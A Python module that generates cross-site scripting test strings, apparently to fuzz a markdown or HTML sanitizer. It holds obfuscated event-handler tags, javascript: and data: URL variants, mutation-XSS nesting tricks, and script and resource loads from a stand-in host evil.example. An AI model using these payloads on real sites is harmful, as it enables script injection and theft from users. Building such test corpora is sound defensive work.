"""Texts that try to run, made by a grammar: tags and events and ways to write them, schemes and links, broken nesting.

Ours: nothing here was copied from a collection. `every(step)` takes one in so many, always the same ones.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator

SHOUT = "alert(1)"
_TAGS = (
    *("img src=x", "svg", "svg/x", "math", "body", "iframe src=x", "object data=x", "embed src=x", "video src=x"),
    *("audio src=x", "details open", "input autofocus", "select autofocus", "textarea autofocus", "button autofocus"),
    *("form", "a href=x", "style", "link rel=stylesheet href=x", "meta http-equiv=refresh content=0", "base href=//x"),
    *("table background=x", "td background=x", "marquee", "isindex", "keygen autofocus", "frameset", "dialog open"),
    *("p style=animation:x", "div id=x", "x-y tabindex=0", "template", "noscript", "video><source src=x", "br"),
)
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onbegin", "onanimationstart", "onpointerenter")
_WAYS = (
    "<{tag} {event}={js}>",
    "<{tag} {event}='{js}'>text</{name}>",
    '"><{tag} {event}="{js}">',
    "'><{tag}/{event}={js}//",
    "<{tag}\n{event}\n=\n{js}\n>",
    "<{tag}\t{event}&#61;{js}>",
    "&lt;{tag} {event}={js}&gt;",
    "&amp;lt;{tag} {event}={js}>",
    "<\x00{tag} {event}={js}>",
    "\uff1c{tag} {event}={js}\uff1e",
    "<!--><{tag} {event}={js}>-->",
    "<![CDATA[><{tag} {event}={js}>]]>",
    "</p></div></article><{tag} {event}={js}>",
    "`<{tag} {event}={js}>`<{tag} {event}={js}>",
    "\\<{tag} {event}={js}\\>",
    "<<{tag} {event}={js}>",
)
_HEADS = (
    *("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "java&#10;script:", "java&Tab;script:"),
    *(
        "&#106;avascript:",
        "&#x6A;avascript:",
        "&#0000106avascript:",
        "javascript&colon;",
        "javascript&#58;",
        "\x01javascript:",
    ),
    *(" javascript:", "%6aavascript:", "javascript%3a", "javascript\u200b:", "\u202ejavascript:", "\ufeffjavascript:"),
    *(
        "javascript:123//",
        "javascript://x%0a",
        "javascript:/*--></title></style>*/",
        "view-source:javascript:",
        "feed:javascript:",
    ),
    *(
        "vbscript:",
        "livescript:",
        "mocha:",
        "data:text/html,<script>",
        "data:text/html;base64,PHNjcmlwdD4",
        "data:image/svg+xml,<svg onload=",
    ),
    *(
        "data:,",
        "blob:",
        "filesystem:",
        "file:///etc/passwd?",
        "jar:http://x!/",
        "ms-its:",
        "intent://x#",
        "about:",
        "chrome:",
    ),
    *(
        "//evil.example/",
        "/\\evil.example/",
        "\\\\evil.example\\",
        "http://evil.example@who.int/",
        "http:evil.example/",
        "ftp://x/",
    ),
    *(
        'https://who.int/" onmouseover="',
        "https://who.int/'onmouseover='",
        "https://who.int/><img src=x onerror=",
        '#" onclick="',
    ),
)
_PLACES = (
    "[a]({url})",
    "[a](<{url}>)",
    '[a]({url} "x\\" onmouseover={js} y=\\"")',
    "[a][1]\n\n[1]: {url}",
    "[a][1]\n\n[1]: <{url}> 'title'",
    "<{url}>",
    "![a]({url})",
    "![a][1]\n\n[1]: {url}",
    "[![a]({url})]({url})",
    "see {url} here",
    '<a href="{url}">a</a>',
    '<img src="{url}">',
    '<form action="{url}"><button formaction="{url}">',
    '<svg><a xlink:href="{url}"><text y=9>a',
    '<math href="{url}">a',
    '<iframe src="{url}">',
    "|a|b|\n|-|-|\n|[x]({url})|{url}|",
    "- [ ] [a]({url})\n  > {url}",
    "x[^1]\n\n[^1]: [a]({url})",
    "### [a]({url}) {{: onclick={js} }}",
    "``` {url}\n{url}\n```",
    "<{url}@a.b>",
)
_BROKEN = (
    "<svg></p><style><a id='</style><img src=1 onerror={js}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={js}&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror={js}></style></annotation-xml></math>",
    "<svg><desc><noembed></noembed></desc><script>{js}</script></svg>",
    "<svg><foreignobject><p><style><!--</style><img src=x onerror={js}>--></style>",
    "<template><s><template><s><img src=x onerror={js}>@shafigullin</s></template></s></template>",
    "<select><iframe></select><img src=x onerror={js}>",
    "<table><td><svg><title><table><img src=x onerror={js}>",
    "<xmp><p id='</xmp><img src=x onerror={js}>'>",
    "<textarea><p id='</textarea><img src=x onerror={js}>'>",
    "<title><p id='</title><img src=x onerror={js}>'>",
    "<listing>&lt;img src=x onerror={js}&gt;</listing>",
    "<plaintext><img src=x onerror={js}>",
    "<!--<img src='--><img src=x onerror={js}//'>",
    "<!--!><img src=x onerror={js}>-->",
    "<?xml version='1.0'?><?x <img src=x onerror={js}>?>",
    "<!DOCTYPE x [<!ENTITY y '<img src=x onerror={js}>'>]>&y;",
    "<a href='x'><a href='javascript:{js}'>y</a></a>",
    "<p><svg><p><style></style><img src=x onerror={js}>",
    '[a](b \'c\' onclick={js})[d](<e f> "g" h="i")',
    "*a <b title='*' onclick={js}>*' >x*",
    '`` ` `` <img src="`" onerror={js}>"`',
    '**<img src="**" onerror={js}>',
    "[<img src=x onerror={js}>](<javascript:{js}>)",
    '![<svg onload={js}>](x "<svg onload={js}>")',
    '![" onerror={js} x="](/attachments/1)',
    '![x](/attachments/1"onerror={js}//)',
    "![x](/attachments/1/../../sign-out)",
    "![x](/attachments/1/%2e%2e/x.svg?{js})",
    "[^<img src=x onerror={js}>]: x\n\n[^<img src=x onerror={js}>]",
    '[^" onclick={js} x="]: x\n\ny[^" onclick={js} x="]',
    '|a|\n|:-" onclick={js}|\n|b|',
    '```" onclick={js} x="\ncode\n```',
    "```html\n</code></pre><img src=x onerror={js}>\n```",
    "~~~ {{.x onclick={js}}}\n<script>{js}</script>\n~~~",
    "```javascript\n</script><script>{js}</script>\n```",
    "1. <li onclick={js}>\n2. </ol><img src=x onerror={js}>",
    "> <blockquote onclick={js}></blockquote><script>{js}</script>",
    "\x02stx\x03<img src=x onerror={js}>\x02wzxhzdk:0\x03 klzzwxh:0000 \x02amp\x03lt;img src=x onerror={js}>",
    '\x02klzzwxh:0\x03<a href="\x02klzzwxh:1\x03">[x](javascript:{js})`y`',
    'www.evil.example/"onmouseover={js}//',
    "https://evil.example/<svg/onload={js}>",
    'a@b.cd"onmouseover={js}//@e.fg',
    '<a@b.cd"onmouseover={js}>',
    '[x](mailto:a@b.cd?body="onmouseover={js})',
    "<script>{js}</script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script type=module>import 'data:text/javascript,{js}'</script>",
    "<style>@import '//evil.example/x.css';*{{background:url(//evil.example/y)}}</style>",
    "<link rel=prefetch href=//evil.example/z><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<img srcset='//evil.example/a 1x' src=//evil.example/b><picture><source srcset=//evil.example/c>",
    "<video poster=//evil.example/d><track src=//evil.example/e><object data=//evil.example/f>",
    "![x](https://evil.example/g.png)![y](//evil.example/h.png)",
    "<svg><image href=//evil.example/i /><use href=//evil.example/j#x /></svg>",
    "<input type=image src=//evil.example/k><body background=//evil.example/l><a ping=//evil.example/m href=x>n",
    "\ud83d<img src=x onerror={js}>\udc4d",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "\u2028<script>{js}\u2029</script>",
    "&NewLine;<img src=x onerror={js}&rpar;>&#x3c;img src=x onerror={js}&#x3e;",
)
_AROUND = ("{}", "> {}", "- {}", "# {}", "|{}|\n|-|\n|{}|", "*{}*", "    {}", "[{}](x)", "x[^1]\n\n[^1]: {}", "~~{}~~")


def _made() -> Iterator[str]:
    for tag, event, way in itertools.product(_TAGS, _EVENTS, _WAYS):
        yield way.format(tag=tag, name=tag.split()[0], event=event, js=SHOUT)
    for head, place in itertools.product(_HEADS, _PLACES):
        yield place.format(url=head + SHOUT, js=SHOUT)
    for broken, around in itertools.product(_BROKEN, _AROUND):
        text = broken.format(js=SHOUT)
        yield around.replace("{}", text)


def every(step: int = 1) -> list[str]:
    """Return one payload in `step`."""
    return list(itertools.islice(_made(), 0, None, step))


def broken() -> list[str]:
    """Return the texts of broken nesting alone, for the fields of one line."""
    return [text.format(js=SHOUT).replace("\n", " ") for text in _BROKEN]
